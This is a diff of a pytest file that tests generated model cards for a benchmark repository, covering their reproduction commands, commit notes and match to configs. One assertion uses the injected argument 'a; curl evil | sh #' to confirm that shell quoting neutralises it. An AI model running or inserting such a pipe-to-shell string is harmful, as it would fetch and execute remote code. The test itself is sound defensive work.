@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import re
 import shlex
 from collections.abc import Callable
@@ -11,6 +12,7 @@ from typing import Any
 import pytest
 import reproduce
 import yaml
+from harness.entries import Entry, load_entries, select_entries
 from huggingface_hub import ModelCard, ModelCardData
 from PIL import Image
 
@@ -142,7 +144,7 @@ def card_with(folder: Path, **changes: Any) -> str:
     return (folder / "README.md").read_text()
 
 
-ENTRY = "--table cifar10 --entry cifar10_quant_cnv_w4a4"
+ENTRY = "--table all --entry cifar10_quant_cnv_w4a4"
 PINNED = {"python": "3.11.7", "torch": "2.14.1+cu130", "cnvzoo": "0.1.0", "numpy": "2.4.6", "brevitas": "0.13.4"}
 
 
@@ -183,8 +185,8 @@ def test_the_commands_to_reproduce_it_are_complete(
 
 def test_a_commit_that_cannot_be_checked_out(folder: Path) -> None:
     card = card_with(folder, commit="abc123+")
-    assert "The run used commit `abc123` with uncommitted changes, so it cannot be reproduced exactly" in card
-    assert block(card, "sh").startswith("git checkout abc123\n")
+    assert "The run used commit `abc123` with uncommitted changes. In a checkout that has this checkpoint:" in card
+    assert block(card, "sh").startswith("pip install")  # the commit alone may have other weights to start from
     assert "again on the same machine" not in card
     card = card_with(folder, commit=None)
     assert "checkout" not in block(card, "sh")
@@ -270,6 +272,11 @@ def test_commands_are_quoted_even_without_the_bounds_of_configs(folder: Path) ->
     assert train[train.index("--entry") + 1] == "a; curl evil | sh #"
 
 
+@functools.cache
+def entries_of_this_repository() -> dict[str, Entry]:
+    return load_entries(HUB.parent / "benchmarks" / "configs")
+
+
 @pytest.mark.parametrize("published", sorted(HUB.glob("*/config.json")), ids=lambda path: path.parent.name)
 def test_the_published_cards_are_those_of_their_configs(published: Path) -> None:
     config = read_config(published.parent)
@@ -277,3 +284,7 @@ def test_the_published_cards_are_those_of_their_configs(published: Path) -> None
     card = render_card(config, info.summary, info.parameters, info.macs)
     remedy = "run: python benchmarks/reproduce.py --table all --time-limit 0"
     assert (published.parent / "README.md").read_text(encoding="utf-8") == card, remedy
+    *_, command = block(card, "sh").splitlines()
+    selected = reproduce._parser().parse_args(shlex.split(command.partition("reproduce.py")[2]))
+    entries = select_entries(entries_of_this_repository(), selected.table, selected.entry)
+    assert [entry.name for entry in entries] == [config.recipe["name"]]
